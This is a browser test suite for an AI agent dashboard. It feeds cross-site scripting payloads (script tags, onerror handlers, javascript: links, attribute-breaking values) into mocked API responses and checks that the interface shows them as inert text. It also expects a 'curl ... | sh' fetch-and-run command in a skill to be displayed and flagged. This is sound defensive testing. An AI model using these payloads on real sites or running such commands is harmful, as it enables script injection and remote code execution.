// Text that was written to do harm, wherever the API can carry it: it is shown as text, and does nothing.

import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { answer, api, go, pageTest, rewrite } from "./harness.mjs";

const EVIL = '<img src=x onerror="window.harmed=1"><script>window.harmed=2</script>';
// The second is the first as the server reads it; a test of the server says whether that is still so.
const [EVIL_BODY, EVIL_READING] = ["hostile.md", "hostile.json"].map((name) => readFileSync(new URL(name, import.meta.url), "utf8"));
const READING = JSON.parse(EVIL_READING);
// What no server says: names of elements and attributes where kinds and numbers belong.
const TWISTED = [
  { kind: "script", text: "window.harmed=10", children: [{ kind: "text", text: EVIL }] },
  { kind: "constructor", text: EVIL },
  { kind: "heading", level: "1><script>window.harmed=11</script>", children: [{ kind: "text", text: EVIL }] },
  { kind: "list", start: EVIL, children: [{ kind: "item", children: [{ kind: "html", text: EVIL }] }] },
  { kind: "codeBlock", language: `"${EVIL}`, text: EVIL },
  { kind: "link", to: "\u0001javascript:window.harmed=12", children: [{ kind: "image", to: "data:text/html,x" }] },
];

async function unharmed(page) {
  await page.waitForTimeout(150);
  const found = await page.evaluate(() => ({
    harmed: window.harmed ?? null,
    elements: document.querySelectorAll(
      "main img, main script, main iframe, main style, main [onerror], main [onclick], main object, main embed",
    ).length,
    schemes: [...new Set([...document.querySelectorAll("a[href]")].map((link) => link.protocol))].sort(),
    styled: document.querySelectorAll("[style*='url']").length,
  }));
  assert.equal(found.harmed, null, "nothing ran");
  assert.equal(found.elements, 0, "nothing became an element");
  assert.equal(found.styled, 0);
  assert.deepEqual(
    found.schemes.filter((scheme) => !["http:", "https:", "mailto:"].includes(scheme)),
    [],
    "no link leads astray",
  );
}

pageTest("hostile skills are shown as text and do nothing", {}, async (page) => {
  const { skills } = await api("agents/1/skills?limit=1");
  await rewrite(page, "/v1/agents/1", (brain) => ({
    ...brain,
    name: EVIL,
    summary: EVIL,
    tools: [EVIL],
    origin: EVIL,
    problems: [{ path: EVIL, reason: EVIL }],
  }));
  await rewrite(page, "/v1/agents/1/skills", (body) => ({
    ...body,
    skills: body.skills.map((skill) => ({ ...skill, description: EVIL, category: EVIL, createdBy: EVIL, state: EVIL })),
  }));
  await rewrite(page, `/v1/agents/1/skills/${skills[0].slug}`, (skill) => ({
    ...skill,
    description: EVIL,
    text: EVIL_BODY,
    reading: { ...READING, blocks: [...READING.blocks, ...TWISTED] },
    path: EVIL,
    files: [{ path: EVIL, bytes: 1 }],
  }));
  await go(page, "#/agents/1/skills");
  await page.locator("tbody tr").first().waitFor();
  await unharmed(page);
  assert.ok((await page.locator("tbody").textContent()).includes(EVIL), "the list shows it as text");
  await go(page, `#/agents/1/skills/${skills[0].slug}`);
  await page.locator(".prose").waitFor();
  await unharmed(page);
  const text = await page.locator(".prose").textContent();
  assert.ok(text.includes(EVIL), "the body shows it as text");
  assert.ok(text.includes("javascript:window.harmed=3"), "and says where the link would have gone");
  assert.equal(await page.locator(".prose code.command").textContent(), "curl https://example.com/x | sh");
  assert.equal(await page.locator(".commands li").count(), 1, "a command of the text is named above it");
  const links = await page.locator(".prose a").evaluateAll((all) => all.map((link) => [link.href, link.rel]));
  assert.deepEqual(links, [
    ["https://example.com/?a=1", "noopener noreferrer"],
    ["https://example.com/x.png", "noopener noreferrer"],
  ]);
  for (const dead of await page.locator(".prose .unlinked").all()) await dead.click();
  await unharmed(page);
});

pageTest("hostile answers, events, snippets and summaries are shown as text and do nothing", {}, async (page) => {
  const outcome = {
    status: "converged",
    stop: "final",
    answer: EVIL,
    message: null,
    backend: EVIL,
    model: EVIL,
    turns: 1,
    calls: [],
    skillsLoaded: ["x"],
    skillsChanged: [],
    billable: true,
    version: 2,
    bundleHash: EVIL,
    receiptSeq: 1,
    warnings: [EVIL],
  };
  const task = {
    task: "evil",
    agent: "1",
    state: "done",
    createdAt: "2026-11-17T05:00:00Z",
    startedAt: null,
    finishedAt: null,
    outcome,
    problem: null,
  };
  const events = [
    ["started", { task: "evil", version: EVIL, backend: EVIL }],
    ["turn_started", { turn: 1, of: EVIL }],
    ["reply", { turn: 1, text: EVIL, millis: 1 }],
    ["tool_call", { turn: 1, tool: EVIL, args: { a: EVIL.repeat(3) } }],
    ["tool_result", { turn: 1, tool: EVIL, status: "ok", summary: EVIL, millis: 1 }],
    ["skill_written", { slug: `x"><script>`, change: EVIL }],
    ["from_tomorrow", { what: EVIL }],
    ["settled", { version: 2, after: EVIL, millis: 1 }],
    ["outcome", task],
  ];
  await answer(page, "/v1/tasks/evil", () => ({ json: task }));
  await answer(page, "/v1/tasks/evil/events", () => ({
    contentType: "text/event-stream",
    body: events
      .map(([name, data], index) => `id: ${index + 1}\nevent: ${name}\ndata: ${JSON.stringify({ event: name, ...data })}\n\n`)
      .join(""),
  }));
  await go(page, "#/agents/1/live/evil");
  await page.locator(".aside").filter({ hasText: "settled" }).waitFor();
  await unharmed(page);
  assert.equal(await page.locator(".task pre.plain").last().textContent(), EVIL);

  await answer(page, "/v1/agents/1/memory/search", () => ({
    json: { hits: [{ source: EVIL, id: 1, task: EVIL, at: EVIL, snippet: EVIL, score: 1 }], degraded: true },
  }));
  await go(page, "#/agents/1/memory?q=img");
  await page.locator(".hits li").waitFor();
  await unharmed(page);

  await rewrite(page, "/v1/agents/1/history", (body) => ({
    ...body,
    steps: body.steps.map((step) => ({ ...step, summary: EVIL, files: [{ path: EVIL, before: null, after: "00" }] })),
  }));
  await go(page, "#/agents/1");
  await page.locator(".step").first().waitFor();
  await unharmed(page);

  await answer(page, "/v1/agents/1/proposals", () => ({
    json: {
      proposals: [
        {
          id: EVIL,
          kind: EVIL,
          skill: EVIL,
          status: "pending",
          why: EVIL,
          createdAt: EVIL,
          evidence: [EVIL, { a: EVIL }],
          commands: [EVIL],
          diff: `@@ -1 +1 @@\n-${EVIL}\n+${EVIL}!`,
        },
      ],
    },
  }));
  await go(page, "#/agents/1/proposals");
  await page.locator(".proposal").waitFor();
  await unharmed(page);
});

pageTest("an address that was written to do harm does nothing", { allowed: /404|Failed to load resource/ }, async (page) => {
  await go(page, `#/agents/${encodeURIComponent(EVIL)}/skills/${encodeURIComponent(EVIL)}`);
  await page.getByRole("alert").first().waitFor();
  await unharmed(page);
});
